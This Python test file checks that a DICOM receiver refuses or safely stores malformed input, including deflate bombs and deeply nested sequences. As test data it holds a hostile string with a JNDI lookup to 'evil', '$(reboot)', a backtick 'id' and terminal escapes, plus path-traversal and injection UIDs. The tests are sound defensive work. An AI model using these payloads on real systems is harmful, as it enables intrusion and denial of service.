"""Rows B20, B28 to B34, B36 to B38 and B40 to B44 of the bad-input catalogue, from the socket to the disk: what the
sender hears, and what is kept of it.
"""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

import pytest
from real_core import CT_TO_ARCHIVE, UNDEFINED, answer_to, data_set, element, kept, receiving, refusal_of, send
from scp_harness import (
    BIG_ENDIAN,
    CT,
    EXPLICIT,
    IMPLICIT,
    RELEASE_RP,
    RELEASE_RQ,
    abort,
    command_set,
    p_data,
    pdv,
    store_command,
)
from structlog.testing import capture_logs

UID = "1.2.9.1"
DEFLATED = "1.2.840.10008.1.2.1.99"
JPEG = "1.2.840.10008.1.2.4.50"
STUDY, SERIES, SOP_INSTANCE, PIXELS = 0x0020000D, 0x0020000E, 0x00080018, 0x7FE00010
EVERYTHING = '[[rule]]\nname = "all"\nsend = ["archive"]\n'
THIN = '[[rule]]\nname = "thin"\nmatch = { SliceThickness = { max = 1.5 } }\nsend = ["archive"]\n'
HOSTILE = "\x1b]0;owned\x07 ${jndi:ldap://evil/x} $(reboot) `id` \u202egnp"


async def test_b20_an_endless_data_set_is_refused_aborted_and_its_file_removed(tmp_path: Path) -> None:
    async with receiving(tmp_path, max_instance_bytes=1_000_000) as core:
        caller = await core.served.associate()
        await caller.send(p_data(pdv(1, 3, command_set(store_command(instance=UID)))))
        start = data_set(UID, without=[PIXELS]) + element(PIXELS, "OW", b"", UNDEFINED - 1)
        await caller.send(p_data(pdv(1, 0, start + bytes(60_000))))
        for _ in range(16):
            await caller.send(p_data(pdv(1, 0, bytes(60_000))))
        answer = await caller.response()
        assert (answer[0x0900], answer[0x0902]) == (0xA700, "data set exceeds 1000000 bytes")
        assert await caller.read(10) == abort(0, 0)
        await core.assert_holds_nothing()


async def test_b28_a_uid_other_than_announced_is_refused_and_nothing_stored(tmp_path: Path) -> None:
    status, words = await refusal_of(tmp_path, data_set("1.2.9.2"), uid=UID)
    assert status == 0xA900
    assert words.startswith("UID mismatch")


@pytest.mark.parametrize(
    "uid",
    [
        "../../etc/cron.d/x",
        "/etc/passwd",
        "a;reboot",
        "$(reboot)",
        "1." + "2" * 63,
        "1.2." * 2000 + "1",
        "1..2",
        ".1.2",
        "1.2.",
        "1.2\x003",
        "1.\xd9\xa1",
        "1.2\n",
        "1.2\\1.3",
        " 1.2",
        "~",
        "con.dcm",
    ],
)
async def test_b29_what_is_no_uid_is_refused_and_nothing_stored(tmp_path: Path, uid: str) -> None:
    content = data_set("1.2.3", more={SOP_INSTANCE: ("UI", uid)})
    status, words = await refusal_of(tmp_path, content, uid=uid)
    assert (status, words) == (0xA900, "invalid UID: SOP Instance UID")


async def test_b29_an_empty_uid_is_a_missing_one(tmp_path: Path) -> None:
    status, words = await refusal_of(tmp_path, data_set(""), uid="")
    assert (status, words) == (0x0212, "no Affected SOP Instance UID")


@pytest.mark.parametrize("uid", ["01.2", "1.02.3"])
async def test_b29_leading_zeros_are_taken_only_where_the_configuration_allows(tmp_path: Path, uid: str) -> None:
    assert await kept(tmp_path / "odd", data_set(uid), uid=uid) == (1, "")
    refused = await refusal_of(tmp_path / "strict", data_set(uid), uid=uid, accept_odd_uids=False)
    assert refused == (0xA900, "invalid UID: SOP Instance UID")


@pytest.mark.parametrize("padding", ["\0", "\0\0\0", " "])
async def test_b29_padding_is_not_part_of_a_uid(tmp_path: Path, padding: str) -> None:
    async with receiving(tmp_path) as core:
        assert (await answer_to(core, data_set(UID + padding), uid=UID + padding))[0x0900] == 0
        assert (UID,) in await core.rows("SELECT sop_instance_uid FROM instance")


@pytest.mark.parametrize(
    "content",
    [
        data_set(UID, without=[STUDY]),
        data_set(UID, without=[SERIES]),
        data_set(UID, more={STUDY: ("UI", "")}),
        data_set(UID, more={STUDY: ("UI", "1.2\\1.3")}),
        data_set(UID, more={SERIES: ("UI", "1.2\\1.3")}),
    ],
    ids=["no study", "no series", "empty study", "two studies", "two series"],
)
async def test_b30_study_or_series_uid_missing_or_several(tmp_path: Path, content: bytes) -> None:
    assert (await refusal_of(tmp_path, content, uid=UID))[0] == 0xC000


BROKEN_TAILS = {
    "past the end": element(0x00280100, "US", b"\x10\0", 4000),
    "cut inside a head": b"\x28\x00\x00\x01U",
    "undefined length outside a sequence": element(0x00290010, "UT", b"", UNDEFINED),
    "item that is none": element(0x00290010, "SQ", b"", UNDEFINED) + b"\xfe\xff\x99\xe0\0\0\0\0",
}


@pytest.mark.parametrize("tail", BROKEN_TAILS.values(), ids=BROKEN_TAILS.keys())
async def test_b31_a_header_broken_behind_what_the_rules_need_is_kept_bit_for_bit_with_a_note(
    tmp_path: Path, tail: bytes
) -> None:
    routed, note = await kept(tmp_path, data_set(UID, without=[PIXELS]) + tail, uid=UID)
    assert routed == 1
    assert note


@pytest.mark.parametrize("tail", BROKEN_TAILS.values(), ids=BROKEN_TAILS.keys())
async def test_b31_a_header_broken_before_what_a_rule_needs_is_refused(tmp_path: Path, tail: bytes) -> None:
    rules = '[[rule]]\nname = "last"\nmatch = { "(0040,0254)" = "x" }\nsend = ["archive"]\n'
    assert (await refusal_of(tmp_path, data_set(UID, without=[PIXELS]) + tail, uid=UID, rules=rules))[0] == 0xC000


async def test_b31_a_header_broken_before_the_uids_is_refused(tmp_path: Path) -> None:
    whole = data_set(UID)
    broken = whole[: whole.index(b"1.2.3.4") - 8] + element(0x0020000E, "UI", b"1.2.3.4", 60_000)
    assert (await refusal_of(tmp_path, broken, uid=UID))[0] == 0xC000


async def test_b31_an_odd_length_is_kept_with_a_note(tmp_path: Path) -> None:
    odd = data_set(UID, without=[PIXELS]) + struct.pack("<HH2sH", 0x0028, 0x1050, b"DS", 3) + b"123"
    routed, note = await kept(tmp_path, odd, uid=UID)
    assert routed == 1
    assert "odd length" in note


async def test_b32_ten_thousand_nested_sequences_are_refused(tmp_path: Path) -> None:
    opened = element(0x00081140, "SQ", b"", UNDEFINED) + struct.pack("<HHI", 0xFFFE, 0xE000, UNDEFINED)
    whole = data_set(UID)
    place = whole.index(struct.pack("<HH", 0x0010, 0x0010))
    status, words = await refusal_of(tmp_path, whole[:place] + opened * 10_000 + whole[place:], uid=UID)
    assert status == 0xC000
    assert "nested too deeply" in words


async def test_b33_a_million_private_elements_behind_the_uids_are_routed_by_what_was_found(tmp_path: Path) -> None:
    crowd = element(0x00211001, "LO", b"") * 2**20
    routed, note = await kept(tmp_path, data_set(UID, without=[0x00280010, 0x00280011, PIXELS]) + crowd, uid=UID)
    assert routed == 1
    assert "too many elements" in note


async def test_b33_a_million_private_elements_that_hide_the_study_are_refused(tmp_path: Path) -> None:
    whole = data_set(UID)
    place = whole.index(struct.pack("<HH", 0x0010, 0x0010))
    crowd = element(0x00091001, "LO", b"") * 2**20
    assert (await refusal_of(tmp_path, whole[:place] + crowd + whole[place:], uid=UID))[0] == 0xC000


def bomb(value_bytes: int, filler: bytes = b"\0") -> bytes:
    """A deflated data set whose header is followed by a private value of so many bytes, and by Slice Thickness."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts = [deflate.compress(data_set(UID, without=[0x00280010, 0x00280011, PIXELS]))]
    parts.append(deflate.compress(struct.pack("<HH2sHI", 0x0021, 0x1001, b"OB", 0, value_bytes)))
    piece = filler * 2**20
    parts += [deflate.compress(piece[: min(len(piece), value_bytes - at)]) for at in range(0, value_bytes, 2**20)]
    parts.append(deflate.compress(element(0x00180050, "DS", "1")))
    return b"".join(parts) + deflate.flush()


async def test_b34_a_deflated_bomb_is_kept_as_it_came_and_routed_by_what_came_first(tmp_path: Path) -> None:
    content = bomb(200_000_000)
    assert 200_000_000 / len(content) > 1000
    routed, note = await kept(tmp_path, content, uid=UID, syntax=DEFLATED)
    assert routed == 1
    assert "deflated" in note


async def test_b34_a_rule_that_needs_what_lies_beyond_a_bomb_does_not_fire(tmp_path: Path) -> None:
    routed, note = await kept(tmp_path, bomb(100_000_000), uid=UID, syntax=DEFLATED, rules=THIN)
    assert routed == 0
    assert "thin" in note


async def test_b36_broken_encapsulated_pixel_data_is_kept_as_it_came(tmp_path: Path) -> None:
    offsets = struct.pack("<HHI", 0xFFFE, 0xE000, 8) + b"\xff" * 8
    fragment = struct.pack("<HHI", 0xFFFE, 0xE000, 1000) + b"\xff\xd8no JPEG, no end, no delimiter"
    content = data_set(UID, without=[PIXELS]) + element(PIXELS, "OB", b"", UNDEFINED) + offsets + fragment
    assert await kept(tmp_path, content, uid=UID, syntax=JPEG) == (1, "")


@pytest.mark.parametrize(
    "charset",
    ["\\".join(["ISO 2022 IR 87"] * 200), "KLINGON", "\x0e\x1b$)C\xff", "ISO 2022 IR 149\\" * 50, "\\" * 300],
    ids=["200 values", "unknown", "shift-out garbage", "50 values", "300 empty values"],
)
async def test_b37_a_name_in_no_character_set_is_kept_and_a_rule_that_asks_for_it_does_not_fire(
    tmp_path: Path, charset: str
) -> None:
    name = b"\xfc\x1b$)C\x0e\xb1\xe8\x0f^\x1b(J\xff"
    content = data_set(UID, more={0x00080005: ("CS", charset), 0x00100010: ("PN", name)})
    rules = CT_TO_ARCHIVE.replace('Modality = "CT"', 'PatientName = "M\u00fcller*"')
    routed, _ = await kept(tmp_path / "name", content, uid=UID, rules=rules)
    assert routed == 0
    assert (await kept(tmp_path / "modality", content, uid=UID))[0] == 1


async def test_b37_an_unknown_character_set_is_noted_with_the_rule_that_it_kept_from_firing(tmp_path: Path) -> None:
    content = data_set(UID, more={0x00080005: ("CS", "KLINGON"), 0x00100010: ("PN", b"M\xfcller")})
    rules = CT_TO_ARCHIVE.replace('Modality = "CT"', 'PatientName = "M\u00fcller*"')
    routed, note = await kept(tmp_path, content, uid=UID, rules=rules)
    assert routed == 0
    assert "Character Set" in note
    assert "KLINGON" not in note


async def test_b38_a_hostile_megabyte_is_only_text_and_reaches_neither_log_nor_note(tmp_path: Path) -> None:
    text = HOSTILE.encode() * (1_000_000 // len(HOSTILE))
    content = (
        struct.pack("<HHI", 0x0008, 0x0016, len(CT) + 1)
        + CT.encode()
        + b"\0"
        + struct.pack("<HHI", 0x0008, 0x0018, 8)
        + UID.encode()
        + b"\0"
        + struct.pack("<HHI", 0x0008, 0x1030, len(text))
        + text
        + struct.pack("<HHI", 0x0010, 0x0010, 600)
        + (HOSTILE.encode() * 20)[:600]
        + struct.pack("<HHI6s", 0x0020, 0x000D, 6, b"1.2.3\0")
        + struct.pack("<HHI8s", 0x0020, 0x000E, 8, b"1.2.3.4\0")
    )
    rules = (
        '[[rule]]\nname = "a"\nmatch = { StudyDescription = "*owned*" }\nsend = ["archive"]\n'
        '[[rule]]\nname = "b"\nmatch = { PatientName = { regex = "jndi" } }\nsend = ["ai"]\n'
    )
    with capture_logs() as logs:
        routed, note = await kept(tmp_path, content, uid=UID, syntax=IMPLICIT, rules=rules)
    assert routed == 1  # the short name was compared, the cut description was not
    for spilt in ("jndi", "owned", "\x1b", "reboot", "gnp"):
        assert spilt not in note
        assert spilt not in repr(logs)


@pytest.mark.parametrize(
    "content",
    [
        bytes(128) + b"DICM" + element(0x00020010, "UI", EXPLICIT) + data_set(UID),
        b"MZ".ljust(128) + b"DICM" + element(0x00020000, "UL", b"\0\0\0\0") + data_set(UID),
        element(0x00020010, "UI", EXPLICIT) + data_set(UID),
    ],
    ids=["preamble and meta", "executable preamble", "meta alone"],
)
async def test_b40_a_ps310_header_in_the_data_set_is_refused(tmp_path: Path, content: bytes) -> None:
    assert await refusal_of(tmp_path, content, uid=UID) == (0xC000, "PS3.10 header in the data set")


async def test_b41_big_endian_is_kept_as_it_came(tmp_path: Path) -> None:
    def big(tag: int, vr: str, value: str) -> bytes:
        raw = value.encode() + b"\0" * (len(value) % 2)
        return struct.pack(">HH2sH", tag >> 16, tag & 0xFFFF, vr.encode(), len(raw)) + raw

    values = ((0x00080016, CT), (SOP_INSTANCE, UID), (STUDY, "1.2.3"), (SERIES, "1.2.3.4"))
    content = b"".join(big(tag, "UI", value) for tag, value in values)
    assert await kept(tmp_path, content, uid=UID, syntax=BIG_ENDIAN, rules=EVERYTHING) == (1, "")


async def test_b42_an_empty_data_set_is_refused(tmp_path: Path) -> None:
    assert await refusal_of(tmp_path, b"", uid=UID) == (0xA900, "empty data set")


async def test_b43_absurd_rows_columns_and_frames_are_kept_and_only_read_as_text(tmp_path: Path) -> None:
    more: dict[int, tuple[str, bytes | str]] = {
        0x00280008: ("IS", str(2**31)),
        0x00280010: ("US", b"\xff\xff"),
        0x00280011: ("US", b"\xff\xff"),
        PIXELS: ("OW", b"\0\0"),
    }
    assert await kept(tmp_path, data_set(UID, more=more), uid=UID) == (1, "")


@pytest.mark.parametrize(
    ("last_words", "heard"),
    [
        (RELEASE_RQ, RELEASE_RP),
        (abort(0, 0), b""),
        (b"\x07\xff\0\0\0\x04\xde\xad\xbe\xef", b""),
        (b"\x07\0\0\0\0\x08" + bytes(8), abort(2, 6)),
        (b"", b""),
    ],
    ids=["release", "abort", "garbage in the abort", "abort of a wrong length", "nothing"],
)
async def test_b44_an_association_that_ends_inside_a_message_leaves_no_file(
    tmp_path: Path, last_words: bytes, heard: bytes
) -> None:
    async with receiving(tmp_path) as core:
        caller = await core.served.associate()
        await caller.send(p_data(pdv(1, 3, command_set(store_command(instance=UID)))))
        await caller.send(p_data(pdv(1, 0, data_set(UID))))
        for _ in range(12):
            await caller.send(p_data(pdv(1, 0, bytes(60_000))))
        await caller.send(last_words)
        if heard:
            assert await caller.read(len(heard)) == heard
        await caller.hang_up()
        await core.until_idle()
        await core.assert_holds_nothing()


async def test_after_all_of_it_a_good_instance_is_kept_and_routed(tmp_path: Path) -> None:
    async with receiving(tmp_path) as core:
        caller = await core.served.associate()
        await send(caller, data_set(UID), instance=UID)
        assert (await caller.response())[0x0900] == 0
        assert await core.rows("SELECT destination, state FROM sub_operation") == [("archive", "remaining")]
